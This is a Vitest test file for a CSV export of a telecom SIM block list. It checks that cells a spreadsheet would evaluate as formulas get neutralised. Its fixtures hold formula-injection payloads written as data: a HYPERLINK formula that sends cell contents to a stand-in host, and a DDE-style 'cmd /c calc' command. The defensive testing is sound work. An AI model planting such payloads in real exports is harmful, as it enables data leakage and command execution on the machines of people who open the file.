import { describe, expect, it } from 'vitest';
import { blockListCsv, blockListRows, neutraliseFormula } from '../../src/services/export.service.js';

describe('block list CSV', () => {
  it('quotes what a spreadsheet would evaluate, and nothing else', () => {
    for (const formula of ['=1+1', '@SUM(A1)', '+A1*2', '-2+3;cmd', '\tx', '\rx', '=HYPERLINK("x")']) {
      expect(neutraliseFormula(formula)).toBe(`'${formula}`);
    }
    for (const data of ['+919876543210', '-5', '9876543210', 'Mumbai', 'key:12', 'a=b']) {
      expect(neutraliseFormula(data)).toBe(data);
    }
  });

  it('neutralises cells a spreadsheet would run as a formula, and leaves the rest as they are', () => {
    const rows = blockListRows(
      [
        {
          candidateId: 1,
          msisdn: '+919876543210',
          operator: 'JIO',
          lsa: '=HYPERLINK("http://x.invalid/?"&A1,"click")',
          reasons: ['SIM_CAP_EXCEEDED'],
          clusterId: 7,
          status: 'confirmed',
          decidedAt: '2026-06-01T10:00:00.000Z',
          decidedBy: '@SUM(1+1)*cmd|"/c calc"!A0',
          source: 'analysis',
        },
      ],
      '2026-06-02T00:00:00.000Z',
    );
    const [header, line] = blockListCsv(rows).trim().split('\n');
    expect(header).toBe(
      'msisdn,operator,lsa,reasons,cluster_id,status,source,decided_at,decided_by,outgoing_barred_by,' +
        'incoming_barred_by,disconnect_by',
    );
    expect(line).toContain(`"'=HYPERLINK(""http://x.invalid/?""&A1,""click"")"`);
    expect(line).toContain(`"'@SUM(1+1)*cmd|""/c calc""!A0"`);
    // A phone number with its + is data, not a formula.
    expect(line!.startsWith('+919876543210,JIO,')).toBe(true);
    expect(line).toContain(',SIM_CAP_EXCEEDED,7,exported,analysis,');
  });
});
